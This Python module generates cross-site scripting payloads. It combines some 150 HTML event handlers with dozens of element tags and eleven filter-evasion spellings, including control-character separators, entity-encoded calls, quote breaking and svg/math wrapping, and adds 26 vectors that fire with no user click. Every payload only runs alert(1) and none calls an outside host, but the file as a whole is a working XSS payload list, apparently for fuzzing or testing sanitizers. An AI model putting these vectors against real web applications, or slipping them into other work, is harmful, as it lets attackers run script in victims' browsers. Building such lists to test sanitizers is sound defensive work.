"""Attributes that hold programs: every event, on many elements, in many spellings."""

from __future__ import annotations

from itertools import cycle

EVENTS = """
abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut
beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload beforexrselect begin blur bounce cancel
canplay canplaythrough change click close command contentvisibilityautostatechange contextlost contextmenu
contextrestored copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop
durationchange emptied end ended error finish focus focusin focusout formdata fullscreenchange fullscreenerror
gotpointercapture hashchange help input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata
loadend loadstart lostpointercapture message messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover
mouseup mousewheel offline online orientationchange pagehide pagereveal pageshow pageswap paste pause play playing
pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup
popstate progress propertychange ratechange readystatechange rejectionhandled repeat reset resize resizestart scroll
scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation seeked seeking select selectionchange
selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove
touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting
webkitanimationend webkitfullscreenchange webkitmouseforcechanged webkitpresentationmodechanged webkittransitionend
wheel zoom
""".split()
"""The events for which some browser reads an attribute, or once did."""
ELEMENTS = """
a article audio b body br button canvas center custom-card details dialog div em embed fieldset font form frameset g h1
header hr html i iframe image img input label li link main map marquee math meter nav object ol optgroup option output p
path picture pre progress q s search section select slot small source span strong style sub summary sup svg table tbody
td template text textarea th time title tr track u ul use var video wbr xss
""".split()
SPELLINGS = [
    "<{tag} on{event}=alert(1)>x</{tag}>",
    "<{tag} ON{event}='alert(1)'>x</{tag}>",
    '<{tag}/on{event}="alert(1)"/>x',
    "<{tag}\x0con{event}\n=\talert(1)>x</{tag}>",
    "<{tag} class=a\x0bon{event}=alert(1) on{event}=alert(1)>x</{tag}>",
    '<{tag} title="\'"on{event}=alert(1)>x</{tag}>',
    "<{tag} on{event}=&#97;lert&lpar;1&rpar;>x</{tag}>",
    "<{tag} =on{event}=alert(1) on{event}=alert(1)>x</{tag}>",
    "<{tag} \"on{event}=alert(1) 'on{event}=alert(1) `on{event}=alert(1)>x</{tag}>",
    "<svg><{tag} on{event}=alert(1)>x</{tag}></svg>",
    "<math><{tag} on{event}=alert(1)>x</{tag}></math>",
]
AT_ONCE = [
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<audio src onerror=alert(1)>",
    "<video src onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<div popover=manual id=pop onbeforetoggle=alert(1)>x</div><button popovertarget=pop>x</button>",
    "<style>@keyframes a{}</style><p style='animation:a' onanimationstart=alert(1)>x</p>",
    "<p style='transition:color 1s;color:red' ontransitionrun=alert(1)>x</p>",
    "<div style=content-visibility:auto oncontentvisibilityautostatechange=alert(1)>x</div>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set onbegin=alert(1) attributename=x></svg>",
    "<svg><image href=x onerror=alert(1)></svg>",
    "<svg><style onload=alert(1)></style></svg>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=data:text/css, onload=alert(1)>",
    "<iframe onload=alert(1)></iframe>",
    "<object onerror=alert(1) data=x></object>",
    "<embed src=x onerror=alert(1)>",
    "<script src=data:, onload=alert(1)></script>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<track onerror=alert(1)><video controls><track default src=x onerror=alert(1)></video>",
    "<frameset onload=alert(1)><frame></frameset>",
]
"""Programs that need nobody who clicks."""


def vectors() -> list[str]:
    """Every event in two spellings on elements in turn, and every spelling on every element with one event."""
    tags, spellings = cycle(ELEMENTS), cycle(SPELLINGS)
    of_events = [next(spellings).format(tag=next(tags), event=event) for event in EVENTS for _ in range(2)]
    of_elements = [next(spellings).format(tag=tag, event="error") for tag in ELEMENTS for _ in range(2)]
    return AT_ONCE + of_events + of_elements
